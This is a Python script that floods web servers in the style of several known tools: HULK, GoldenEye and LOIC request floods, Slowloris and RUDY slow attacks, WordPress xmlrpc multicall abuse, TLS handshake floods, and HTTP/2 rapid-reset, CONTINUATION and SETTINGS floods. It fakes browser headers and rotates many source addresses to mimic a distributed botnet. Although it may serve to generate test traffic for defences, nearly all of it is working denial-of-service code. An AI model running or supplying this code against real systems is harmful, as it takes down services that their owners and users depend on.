"""Attacks on HTTP in the manner of well-known tools: `--style` says which. See each style's function.

Each worker binds to one of `--sources` addresses, so that a distributed attack needs one process.
"""
import argparse
import asyncio
import random
import ssl
import string
import struct
import time

NETS = (5, 24, 31, 37, 46, 51, 62, 71, 77, 80, 81, 84, 87, 89, 91, 93, 98, 109, 121, 145, 178, 188, 201, 213)


def arguments():
    parser = argparse.ArgumentParser()
    parser.add_argument("--style", required=True, choices=sorted(STYLES))
    parser.add_argument("--host", default="203.0.113.10")
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--workers", type=int, default=50)
    parser.add_argument("--sources", type=int, default=1)
    parser.add_argument("--rate", type=float, default=0, help="most requests a second in all; 0: as fast as it goes")
    parser.add_argument("--path", default="/")
    parser.add_argument("--seed", type=int, default=3)
    return parser.parse_args()


class Attack:
    def __init__(self, options):
        self.options, self.rng = options, random.Random(options.seed)
        self.end = time.monotonic() + options.seconds
        self.pool = [f"{self.rng.choice(NETS)}.{self.rng.randrange(256)}.{self.rng.randrange(256)}.{self.rng.randrange(1, 255)}"
                     for _ in range(options.sources)]
        self.contexts = {}

    def context(self, *protocols):
        if protocols not in self.contexts:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            if protocols:
                context.set_alpn_protocols(list(protocols))
            self.contexts[protocols] = context
        return self.contexts[protocols]

    async def open(self, source, tls=None, *protocols):
        tls = self.options.tls if tls is None else tls
        return await asyncio.open_connection(self.options.host, self.options.port, local_addr=(source, 0),
                                             ssl=self.context(*protocols) if tls else None)

    def running(self):
        return time.monotonic() < self.end

    def word(self, low, high):
        return "".join(self.rng.choice(string.ascii_letters) for _ in range(self.rng.randrange(low, high)))

    async def worker(self, number):
        style = STYLES[self.options.style]
        while self.running():
            # A distributed attack changes its address with each connection.
            source = self.pool[number % len(self.pool)] if len(self.pool) <= self.options.workers else self.rng.choice(self.pool)
            try:
                await style(self, source)
            except (OSError, EOFError, asyncio.IncompleteReadError, ssl.SSLError, asyncio.LimitOverrunError):
                await asyncio.sleep(0.05)

    async def pace(self):
        if self.options.rate:
            await asyncio.sleep(self.rng.expovariate(self.options.rate / self.options.workers))

    async def main(self):
        tasks = [asyncio.create_task(self.worker(i)) for i in range(self.options.workers)]
        await asyncio.sleep(self.options.seconds)
        for task in tasks:
            task.cancel()


async def swallow(reader):
    head = await reader.readuntil(b"\r\n\r\n")
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"content-length:"):
            await reader.readexactly(int(line.split(b":")[1]))


async def hulk(attack, source):
    """HULK: a new connection per request, unique query, referrers of search engines, no cache."""
    await attack.pace()
    reader, writer = await attack.open(source)
    agent = attack.rng.choice(("Mozilla/5.0 (X11; U; Linux x86_64; en-US; rv:1.9.1.3) Gecko/20090913 Firefox/3.5.3",
                               "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0; en-US)", "Opera/9.80 (Windows NT 5.2; U; ru) Presto/2.5.22 Version/10.51"))
    writer.write((f"GET {attack.options.path}?{attack.word(3, 10).upper()}={attack.word(3, 10).upper()} HTTP/1.1\r\nAccept-Encoding: identity\r\n"
                  f"Host: www.example.org\r\nKeep-Alive: {attack.rng.randrange(110, 120)}\r\nUser-Agent: {agent}\r\nAccept-Charset: ISO-8859-1,utf-8;q=0.7,*;q=0.7\r\n"
                  f"Connection: close\r\nReferer: http://www.google.com/?q={attack.word(5, 10).upper()}\r\nCache-Control: no-cache\r\n\r\n").encode())
    await reader.read()
    writer.close()


async def goldeneye(attack, source):
    """GoldenEye: keep-alive connections, random keys and headers."""
    reader, writer = await attack.open(source)
    for _ in range(attack.rng.randrange(5, 40)):
        await attack.pace()
        query = "&".join(f"{attack.word(2, 8)}={attack.word(2, 12)}" for _ in range(attack.rng.randrange(1, 4)))
        writer.write((f"GET {attack.options.path}?{query} HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0 (Windows; WOW64; NT 6.{attack.rng.randrange(4)}) "
                      f"AppleWebKit/{attack.rng.randrange(535, 538)}.{attack.rng.randrange(1, 37)} (KHTML, like Gecko) Chrome/{attack.rng.randrange(6, 33)}.0.{attack.rng.randrange(100, 2000)}.0 Safari/537.36\r\n"
                      f"Cache-Control: no-cache, max-age=0\r\nAccept-Encoding: *,identity\r\nConnection: keep-alive\r\nKeep-Alive: {attack.rng.randrange(1, 1000)}\r\n"
                      f"Referer: http://www.bing.com/{attack.word(3, 10)}\r\nCookie: {attack.word(5, 10)}={attack.word(5, 10)}\r\n\r\n").encode())
        await swallow(reader)
    writer.close()


async def loic(attack, source):
    """LOIC: the barest request, again and again, on new connections; does not read."""
    await attack.pace()
    reader, writer = await attack.open(source)
    writer.write(f"GET {attack.options.path} HTTP/1.0\r\n\r\n\r\n".encode())
    await writer.drain()
    await reader.read(100)
    writer.close()


async def browserlike(attack, source):
    """A botnet's headless browsers without assets: full headers, few requests per address."""
    await attack.pace()
    reader, writer = await attack.open(source)
    path = attack.rng.choice((attack.options.path, "/", f"/page{attack.rng.randrange(1, 40)}.html"))
    writer.write((f"GET {path} HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                  f"Chrome/{attack.rng.choice((120, 121, 122))}.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml\r\nAccept-Language: en-US,en;q=0.9\r\n"
                  "Accept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n").encode())
    await swallow(reader)
    writer.close()


async def xmlrpc(attack, source):
    """Many method calls in one POST to WordPress."""
    await attack.pace()
    reader, writer = await attack.open(source)
    call = "<value><struct><member><name>methodName</name><value>wp.getUsersBlogs</value></member></struct></value>" * 60
    body = f"<?xml version='1.0'?><methodCall><methodName>system.multicall</methodName><params>{call}</params></methodCall>"
    writer.write(f"POST /xmlrpc.php HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/4.0 (compatible: MSIE 7.0)\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}".encode())
    await reader.read()
    writer.close()


async def slow_headers(attack, source):
    """Slowloris: a header line every few seconds, never the end."""
    _, writer = await attack.open(source)
    writer.write(f"GET /?{attack.rng.randrange(2000)} HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.3; rv:36.0) Gecko/20100101 Firefox/36.0\r\nAccept-language: en-US,en,q=0.5\r\n".encode())
    while attack.running():
        await asyncio.sleep(attack.rng.uniform(1, 3))
        writer.write(f"X-a: {attack.rng.randrange(1, 5000)}\r\n".encode())
        await writer.drain()


async def slow_body(attack, source):
    """RUDY: a long form, one byte at a time."""
    _, writer = await attack.open(source)
    writer.write(b"POST /app/login HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0 (compatible; MSIE 8.0)\r\n"
                 b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\nuser=")
    while attack.running():
        await asyncio.sleep(attack.rng.uniform(0.5, 2))
        writer.write(attack.rng.choice(b"abcdef").to_bytes(1, "big"))
        await writer.drain()


async def idle(attack, source):
    """Connections that say nothing."""
    await attack.pace()
    reader, _ = await attack.open(source, False)
    await asyncio.wait_for(reader.read(1), max(0.1, attack.end - time.monotonic()))


async def connect(attack, source):
    """Connections that are closed at once."""
    await attack.pace()
    _, writer = await attack.open(source, False)
    writer.close()


async def handshake(attack, source):
    """TLS handshakes and nothing else."""
    await attack.pace()
    _, writer = await attack.open(source, True)
    writer.transport.abort()


def frame(kind, flags, stream, body=b""):
    return struct.pack("!I", len(body))[1:] + bytes((kind, flags)) + struct.pack("!I", stream) + body


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
# GET, https, path /, authority by literal.
HEADERS = b"\x82\x87\x84\x41\x0fwww.example.org"


async def rapid_reset(attack, source):
    """HTTP/2: streams that are opened and reset in the same breath."""
    reader, writer = await attack.open(source, True, "h2")
    writer.write(PREFACE)
    drain = asyncio.create_task(reader.read(-1))
    stream = 1
    while attack.running() and not drain.done():
        for _ in range(50):
            writer.write(frame(1, 5, stream, HEADERS) + frame(3, 0, stream, struct.pack("!I", 8)))
            stream += 2
        await writer.drain()
        await asyncio.sleep(0.02)
    drain.cancel()
    writer.close()


async def continuation(attack, source):
    """HTTP/2: headers that never end."""
    reader, writer = await attack.open(source, True, "h2")
    writer.write(PREFACE + frame(1, 1, 1, HEADERS))
    drain = asyncio.create_task(reader.read(-1))
    while attack.running() and not drain.done():
        for _ in range(10):
            writer.write(frame(9, 0, 1, b"\x00\x04x-ab\x7f\x80\x01" + b"a" * 255 + b"a" * 3000))
        await writer.drain()
        await asyncio.sleep(0.02)
    drain.cancel()
    writer.close()


async def settings(attack, source):
    """HTTP/2: SETTINGS and PING without end."""
    reader, writer = await attack.open(source, True, "h2")
    writer.write(PREFACE)
    drain = asyncio.create_task(reader.read(-1))
    while attack.running() and not drain.done():
        for _ in range(60):
            writer.write(frame(4, 0, 0) + frame(6, 0, 0, b"01234567"))
        await writer.drain()
        await asyncio.sleep(0.01)
    drain.cancel()
    writer.close()


STYLES = {"hulk": hulk, "goldeneye": goldeneye, "loic": loic, "browserlike": browserlike, "xmlrpc": xmlrpc, "slow-headers": slow_headers,
          "slow-body": slow_body, "idle": idle, "connect": connect, "handshake": handshake, "rapid-reset": rapid_reset,
          "continuation": continuation, "settings": settings}

if __name__ == "__main__":
    asyncio.run(Attack(arguments()).main())
